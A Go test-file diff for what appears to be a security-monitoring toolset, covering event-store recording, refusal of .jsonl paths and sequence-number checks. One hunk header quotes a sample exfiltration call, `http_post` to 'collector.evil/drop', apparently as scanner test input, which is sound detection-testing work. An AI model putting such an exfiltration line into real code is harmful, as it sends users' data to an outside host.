@@ -4,6 +4,7 @@ package repro_test
 
 import (
 	"bytes"
+	"context"
 	"fmt"
 	"net/http"
 	"os"
@@ -255,7 +256,7 @@ func TestCLITools(t *testing.T) {
 	t.Run("jscan-events-replay", func(t *testing.T) {
 		// The census's unified finding stream replays through
 		// jsentinel, re-raising the same scan alerts offline.
-		events := filepath.Join(work, "findings.jsonl")
+		events := filepath.Join(work, "findings-store")
 		out, err := runTool(t, filepath.Join(bin, "jscan"),
 			"--fleet", "8", "--seed", "7", "--suites", "misconfig,nbscan,intel", "--events", events)
 		if err != nil {
@@ -273,10 +274,10 @@ func TestCLITools(t *testing.T) {
 	})
 
 	t.Run("jscan-events-store-replay", func(t *testing.T) {
-		// A census recorded into the segmented event store (the
-		// default for non-.jsonl --events paths) replays through
-		// jsentinel with segment-parallel workers and kind filters,
-		// producing the same deterministic report as a serial replay.
+		// A census recorded into the segmented event store replays
+		// through jsentinel with segment-parallel workers and kind
+		// filters, producing the same deterministic report as a serial
+		// replay.
 		storeDir := filepath.Join(work, "census-store")
 		out, err := runTool(t, filepath.Join(bin, "jscan"),
 			"--fleet", "8", "--seed", "7", "--suites", "misconfig,nbscan,intel", "--events", storeDir)
@@ -288,14 +289,22 @@ func TestCLITools(t *testing.T) {
 		}
 
 		// A second census into the same store must refuse, not merge:
-		// the stream would disagree with the census just printed.
+		// the stream would disagree with the census just printed. The
+		// refused run leaves a previous --jsonl stream as it was.
+		prior := filepath.Join(work, "census-prior.jsonl")
+		if err := os.WriteFile(prior, []byte("{}\n"), 0o644); err != nil {
+			t.Fatal(err)
+		}
 		dup, err := runTool(t, filepath.Join(bin, "jscan"),
-			"--fleet", "8", "--seed", "7", "--suites", "misconfig,nbscan,intel", "--events", storeDir)
+			"--fleet", "8", "--seed", "7", "--suites", "misconfig,nbscan,intel", "--events", storeDir, "--jsonl", prior)
 		if err == nil {
 			t.Fatalf("recording over a non-empty store accepted:\n%s", dup)
 		}
 		if !strings.Contains(dup, "already holds a recorded stream") {
 			t.Errorf("refusal message missing:\n%s", dup)
+		}
+		if data, err := os.ReadFile(prior); err != nil || string(data) != "{}\n" {
+			t.Errorf("refused census rewrote its --jsonl stream: %q, %v", data, err)
 		}
 
 		// A checkpointed rerun replaces the recording instead of
@@ -872,70 +881,98 @@ http_post("http://collector.evil/drop", w)`, nil); err != nil {
 		}
 	})
 
-	t.Run("jingestd-jsonl-store", func(t *testing.T) {
-		// A .jsonl --store is a flat stream: it records events and keeps
-		// no history, rather than making a history/ directory the
-		// stream cannot then be created over.
-		dir := t.TempDir()
-		path := filepath.Join(dir, "x.jsonl")
-		tenants := "acme=s"
-		tok, err := runTool(t, filepath.Join(bin, "jingestd"), "--tenants", tenants, "--mint", "acme")
-		if err != nil {
-			t.Fatalf("mint: %v\n%s", err, tok)
+	t.Run("recording-refuses-jsonl", func(t *testing.T) {
+		// A recording is an event-store directory. Every recording flag
+		// refuses a .jsonl path before touching the disk: an existing
+		// file is left byte-identical, and neither the path nor a
+		// history/ is created.
+		const existing = `{"kind":"auth","user":"u"}` + "\n"
+		for _, tc := range []struct {
+			tool string
+			args []string
+		}{
+			{"jsentinel", []string{"--listen", "127.0.0.1:0", "--log"}},
+			{"jscan", []string{"--fleet", "2", "--events"}},
+			{"jupyterd", []string{"--addr", "127.0.0.1:0", "--log"}},
+			{"jingestd", []string{"--addr", "127.0.0.1:0", "--tenants", "acme=s", "--store"}},
+		} {
+			t.Run(tc.tool, func(t *testing.T) {
+				dir := t.TempDir()
+				old := filepath.Join(dir, "old.jsonl")
+				if err := os.WriteFile(old, []byte(existing), 0o644); err != nil {
+					t.Fatal(err)
+				}
+				for _, path := range []string{old, filepath.Join(dir, "new.jsonl")} {
+					// A daemon that accepted the path would serve until
+					// killed, so the run is bounded.
+					ctx, cancel := context.WithTimeout(context.Background(), 15*time.Second)
+					out, err := exec.CommandContext(ctx, filepath.Join(bin, tc.tool), append(tc.args, path)...).CombinedOutput()
+					cancel()
+					if err == nil || !strings.Contains(string(out), "a recording is an event-store directory, not a .jsonl file") {
+						t.Fatalf("%s %s: err %v, want the .jsonl refusal:\n%s", tc.tool, path, err, out)
+					}
+				}
+				if data, err := os.ReadFile(old); err != nil || string(data) != existing {
+					t.Errorf("refusal changed %s: %q, %v", old, data, err)
+				}
+				if entries, _ := os.ReadDir(dir); len(entries) != 1 {
+					t.Errorf("refusal left %d entries, want only old.jsonl: %v", len(entries), entries)
+				}
+			})
 		}
-		addr, stop := startDaemon(t, filepath.Join(bin, "jingestd"),
-			"--addr", "127.0.0.1:0", "--tenants", tenants, "--store", path)
-		req, err := http.NewRequest(http.MethodPost, "http://"+addr+"/ingest",
-			strings.NewReader(`{"kind":"auth","time":"2026-08-08T12:00:00Z","src_ip":"203.0.113.5","op":"password","success":false}`+"\n"))
-		if err != nil {
-			t.Fatal(err)
-		}
-		req.Header.Set("X-Tenant", "acme")
-		req.Header.Set("Authorization", "Bearer "+strings.TrimSpace(tok))
-		resp, err := http.DefaultClient.Do(req)
-		if err != nil {
-			t.Fatal(err)
-		}
-		resp.Body.Close()
-		if resp.StatusCode != http.StatusOK {
-			t.Fatalf("ingest status %d", resp.StatusCode)
-		}
-		out := stop(0)
+	})
 
-		f, err := os.Open(path)
-		if err != nil {
-			t.Fatalf("no JSONL recording: %v\n%s", err, out)
-		}
-		defer f.Close()
-		if st, err := f.Stat(); err != nil || !st.Mode().IsRegular() {
-			t.Fatalf("%s is not a regular file: %v", path, err)
-		}
-		n := 0
-		for dec := trace.NewDecoder(f); ; n++ {
-			if _, err := dec.Next(); err != nil {
-				break
+	t.Run("jsentinel-live-one-seq-space", func(t *testing.T) {
+		// The monitor emits on the server's bus, so wire- and
+		// host-derived events share one sequence space: a live
+		// recording holds one distinct Seq per event.
+		storeDir := filepath.Join(t.TempDir(), "tap-store")
+		addr, stop := startDaemon(t, filepath.Join(bin, "jsentinel"),
+			"--listen", "127.0.0.1:0", "--log", storeDir, "--alerts=false")
+		for i := 0; i < 3; i++ {
+			for _, path := range []string{"/api/status", "/api/kernels"} {
+				req, err := http.NewRequest(http.MethodGet, "http://"+addr+path, nil)
+				if err != nil {
+					t.Fatal(err)
+				}
+				req.Header.Set("Authorization", "token sentinel-demo-token")
+				resp, err := http.DefaultClient.Do(req)
+				if err != nil {
+					t.Fatal(err)
+				}
+				resp.Body.Close()
 			}
 		}
-		if n != 1 {
-			t.Errorf("%s holds %d decodable events, want 1:\n%s", path, n, out)
+		out := stop(0)
+		store, err := evstore.OpenRead(storeDir)
+		if err != nil {
+			t.Fatalf("%v\n%s", err, out)
 		}
-		if entries, _ := os.ReadDir(dir); len(entries) != 1 {
-			t.Errorf("a .jsonl store left %d entries beside it, want only x.jsonl (no history/): %v", len(entries), entries)
+		n, seqs := 0, map[uint64]bool{}
+		if _, err := store.Scan(evstore.Filter{}, func(e trace.Event) error {
+			n++
+			seqs[e.Seq] = true
+			return nil
+		}); err != nil {
+			t.Fatal(err)
+		}
+		if n == 0 || len(seqs) != n {
+			t.Fatalf("recording holds %d events under %d distinct Seq values, want one per event", n, len(seqs))
 		}
 	})
 
 	t.Run("jsentinel-failed-recording-exits-1", func(t *testing.T) {
-		// A recording that cannot be flushed at shutdown is a failed run:
-		// the tap records into /dev/full, where every write fails.
-		if _, err := os.Stat("/dev/full"); err != nil {
-			t.Skip("no /dev/full")
+		// A recording that cannot be written is a failed run. The child
+		// runs with a file-size limit of 0, so the store's first segment
+		// write fails with EFBIG (a Go binary ignores SIGXFSZ); the
+		// pipes its output goes to are not files and stay writable.
+		sh, err := exec.LookPath("sh")
+		if err != nil {
+			t.Skip("no sh")
 		}
-		path := filepath.Join(t.TempDir(), "tap.jsonl")
-		if err := os.Symlink("/dev/full", path); err != nil {
-			t.Fatal(err)
-		}
-		addr, stop := startDaemon(t, filepath.Join(bin, "jsentinel"),
-			"--listen", "127.0.0.1:0", "--log", path, "--alerts=false")
+		storeDir := filepath.Join(t.TempDir(), "tap-store")
+		addr, stop := startDaemon(t, sh, "-c", `ulimit -f 0; exec "$0" "$@"`,
+			filepath.Join(bin, "jsentinel"), "--listen", "127.0.0.1:0", "--log", storeDir, "--alerts=false")
 		resp, err := http.Get("http://" + addr + "/api/status")
 		if err != nil {
 			t.Fatal(err)
